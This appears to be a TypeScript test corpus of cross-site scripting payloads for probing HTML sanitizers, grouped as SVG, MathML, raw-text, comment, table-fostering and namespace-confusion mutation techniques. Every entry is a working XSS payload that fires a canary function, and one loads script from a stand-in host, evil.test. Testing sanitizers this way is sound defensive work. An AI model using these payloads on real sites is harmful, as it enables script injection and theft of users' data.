import type { Technique } from './technique.js'

const svg: Technique = {
  name: 'svg',
  idea: 'the elements of SVG have handlers, links and script of their own',
  runsRaw: true,
  pages: [
    '<svg onload=canary(1)>text</svg>',
    '<svg><script>canary(1)</script></svg>',
    '<svg><script href="https://evil.test/a.js"></script></svg>',
    '<svg><script xlink:href="data:,canary(1)"></script></svg>',
    '<svg><script>&#99;anary(1)</script></svg>',
    '<svg><a xlink:href="javascript:canary(1)"><text x=20 y=20>link</text></a></svg>',
    '<svg><a href="javascript:canary(1)"><text x=20 y=20>link</text></a></svg>',
    '<svg><animate onbegin=canary(1) attributeName=x dur=1s></svg>',
    '<svg><a><animate attributeName=href values="javascript:canary(1)" /><text x=20 y=20>link</text></a></svg>',
    '<svg><set attributeName=href to="javascript:canary(1)" onbegin=canary(1)></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><script>canary(1)</script></svg>#x"></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.canary(1)</script>"></iframe><p>text</p></foreignObject></svg>',
    '<svg><image href=x onerror=canary(1)></svg>',
    '<svg><title><img src=x onerror=canary(1)></title><text>t</text></svg>',
    '<svg><desc><script>canary(1)</script>words</desc></svg>',
    '<svg><style><img src=x onerror=canary(1)></style><text>t</text></svg>',
    '<svg><text><tspan onclick=canary(1)>label</tspan></text></svg>',
    '<p>text <svg><handler type="application/ecmascript" event="load">canary(1)</handler></svg></p>',
  ],
}

const mathml: Technique = {
  name: 'mathml',
  idea: 'formulas carry links, handlers and ways back to HTML',
  runsRaw: true,
  pages: [
    '<math href="javascript:canary(1)"><mi>x</mi></math>',
    '<math><mi xlink:href="javascript:canary(1)">x</mi></math>',
    '<math><maction actiontype="statusline#http://page.test" xlink:href="javascript:canary(1)"><mtext>x</mtext></maction></math>',
    '<math><mtext><img src=x onerror=canary(1)>x</mtext></math>',
    '<math><mi><script>canary(1)</script>x</mi></math>',
    '<math><annotation-xml encoding="text/html"><script>canary(1)</script><p>x</p></annotation-xml><mi>y</mi></math>',
    '<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=canary(1)></annotation-xml><mi>y</mi></math>',
    '<math><annotation encoding="application/x-tex">\\href{javascript:canary(1)}{x}</annotation><mi>y</mi></math>',
    '<math><mi onclick=canary(1) tabindex=1 onfocus=canary(1) autofocus>x</mi></math>',
    '<math><mglyph src="javascript:canary(1)"></mglyph><mi>x</mi></math>',
    '<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=canary(1)>"></mtext></math>',
    '<math><semantics><mi>x</mi><annotation>&lt;img src=x onerror=canary(1)&gt;</annotation></semantics></math>',
    '<math><mfenced open="&quot; onclick=canary(1) x=&quot;"><mi>x</mi></mfenced></math>',
    '<math display="block\' onmouseover=\'canary(1)" style="background:url(javascript:canary(1))"><mi>x</mi></math>',
    '<math><mi></p><img src=x onerror=canary(1)></mi></math>',
  ],
}

const rawText: Technique = {
  name: 'mutation-raw-text',
  idea: 'text inside raw-text elements becomes markup when the element is lost or closed earlier',
  runsRaw: true,
  pages: [
    '<noscript><p title="</noscript><img src=x onerror=canary(1)>">text</p></noscript>',
    '<noscript><style></noscript><img src=x onerror=canary(1)></style></noscript>',
    '<noscript>&lt;img src=x onerror=canary(1)&gt;</noscript>',
    '<style><img src="</style><img src=x onerror=canary(1)//"></style>',
    '<style>@import "x";</style><p>a</p><style><!--</style><img src=x onerror=canary(1)>--></style>',
    '<textarea></textarea><img src=x onerror=canary(1)></textarea>',
    '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=canary(1)&gt;</textarea>',
    '<xmp><img src=x onerror=canary(1)></xmp>',
    '<xmp></xmp><p title="</xmp><img src=x onerror=canary(1)>">text</p>',
    '<title></title><img src=x onerror=canary(1)></title><p>text</p>',
    '<title>&lt;/title&gt;&lt;script&gt;canary(1)&lt;/script&gt;</title><p>text</p>',
    '<iframe><p title="</iframe><img src=x onerror=canary(1)>"></p></iframe>',
    '<noembed><p title="</noembed><img src=x onerror=canary(1)>"></p></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=canary(1)>"></p></noframes>',
    '<plaintext><img src=x onerror=canary(1)><script>canary(1)</script>',
    '<listing>&lt;img src=x onerror=canary(1)&gt;</listing>',
    '<pre>\n\n<textarea>\n</pre><img src=x onerror=canary(1)>',
  ],
}

const comments: Technique = {
  name: 'mutation-comments',
  idea: 'parsers disagree where a comment, declaration or section ends',
  runsRaw: true,
  pages: [
    '<!--><img src=x onerror=canary(1)>-->',
    '<!---><img src=x onerror=canary(1)>-->',
    '<!-- --!><img src=x onerror=canary(1)>-->',
    '<!--[if IE]><script>canary(1)</script><![endif]--><p>text</p>',
    '<![CDATA[<img src=x onerror=canary(1)>]]>',
    '<svg><![CDATA[</svg><img src=x onerror=canary(1)>]]></svg>',
    '<!doctype x [<!ENTITY y "<img src=x onerror=canary(1)>">]><p>&y;</p>',
    '<?xml version="1.0"?><?php echo "><img src=x onerror=canary(1)>" ?><p>text</p>',
    '</ <img src=x onerror=canary(1)>><p>text</p>',
    '<p>--><img src=x onerror=canary(1)><!-- text</p>',
    '<!-- <p title="--><img src=x onerror=canary(1)>"> -->text',
  ],
}

const fostering: Technique = {
  name: 'mutation-tables-and-selects',
  idea: 'tables and selects move or drop what stands in them, so that a second parse builds another tree',
  runsRaw: true,
  pages: [
    '<table><img src=x onerror=canary(1)><tr><th>a<th>b</table>',
    '<table><tr><p><style><td title="</style><img src=x onerror=canary(1)>">a</table>',
    '<table><caption><table><caption><img src=x onerror=canary(1)>c</table></caption><tr><th>a<th>b</table>',
    '<select><option><script>canary(1)</script>one</option></select>',
    '<select><style><img src=x onerror=canary(1)></style></select><p>text</p>',
    '<select><template><img src=x onerror=canary(1)></template><option>one</select>',
    '<svg><p><table><select><img src=x onerror=canary(1)></select></table></p></svg>',
    '<table><colgroup><col onclick=canary(1) style="x"><img src=x onerror=canary(1)></colgroup><tr><th>a<th>b</table>',
    '<a><table><a href="javascript:canary(1)"><tr><td><a onclick=canary(1)>x</a></table>',
    '<p><table><p><table><p><b><i><table><tr><td><p></b></i><img src=x onerror=canary(1)>',
    '<b><p><b><p><b><p><b></p></b><img src=x onerror=canary(1)>adopted</p>',
    '<button><p><button><p><img src=x onerror=canary(1)></button></button>',
  ],
}

const namespaceConfusion: Technique = {
  name: 'mutation-namespaces',
  idea: 'an element is raw text in HTML and not in MathML or SVG; nesting decides which it is after a second parse',
  runsRaw: true,
  pages: [
    '<math><mtext><table><mglyph><style><math><img src=x onerror=canary(1)></style></mglyph></table></mtext></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=canary(1)>">',
    '<svg></p><style><a id="</style><img src=x onerror=canary(1)>"></svg>',
    '<math><mi><style><img src=x onerror=canary(1)></style></mi></math>',
    '<svg><desc><noscript><img title="</noscript><img src=x onerror=canary(1)>"></desc></svg>',
    '<svg><title><style><a title="</style></title><img src=x onerror=canary(1)>"></svg>',
    '<math><annotation-xml><style><img title="</style><img src=x onerror=canary(1)>"></annotation-xml></math>',
    '<math><mtext><a><mglyph><noscript><p title="</noscript><img src=x onerror=canary(1)>"></a></mtext></math>',
    '<svg><foreignObject><math><mi><svg><style><img src=x onerror=canary(1)></style></svg></mi></math></foreignObject></svg>',
    '<math><mtext><mglyph><mtext><style><img src=x onerror=canary(1)></style></mtext></mglyph></mtext></math>',
    '<svg><xmp><p title="</xmp><img src=x onerror=canary(1)>"></xmp></svg>',
    '<math><font color=x><img src=x onerror=canary(1)></font></math>',
    '<table><svg><mi><style><tr><td title="</style><img src=x onerror=canary(1)>"></svg></table>',
    '<math><mi>'.repeat(30) + '<style><img title="</style><img src=x onerror=canary(1)>">',
    '<div>'.repeat(600) + '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary(1)>',
  ],
}

/** Attacks through foreign content and through trees that change when they are parsed again. */
export const mutationTechniques: readonly Technique[] = [svg, mathml, rawText, comments, fostering, namespaceConfusion]
